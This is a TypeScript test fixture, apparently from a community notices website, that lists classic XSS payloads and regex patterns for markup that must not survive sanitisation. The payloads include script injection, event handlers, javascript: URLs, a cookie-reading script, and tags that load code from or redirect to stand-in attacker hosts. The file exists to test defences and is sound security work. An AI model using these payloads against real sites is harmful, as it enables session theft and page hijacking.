/** The XSS list every public page is tested against (notices #6, residents' matters #23). */
/** Classic XSS payloads (OWASP filter-evasion cheat sheet and friends). */
export const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:alert(1)">点我</a>',
  '<a href="https://evil.example">外链</a>',
  '<p style="background:url(https://evil.example/t.png)">x</p>',
  '<div onclick="alert(1)">x</div>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><button>提交</button></form>',
  '<video><source onerror="alert(1)"></video>',
  '<style>@import "https://evil.example/x.css";</style>',
  '"><script>alert(document.cookie)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<p>正常</p><!--<script>alert(1)</script>-->',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<td onmouseover=alert(1)>x</td>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
]

/** What must not survive into a page as markup. */
export const DANGEROUS = [/<script/i, /<\/script/i, /\son\w+\s*=/i, /javascript:/i, /<iframe/i, /<img/i, /<svg/i, /<a\s/i, /href=/i, /src=/i, /style=/i, /<style/i, /<link/i, /<meta/i, /<base/i, /<object/i, /<embed/i, /<form/i, /<input/i, /https?:\/\//i, /background=/i]
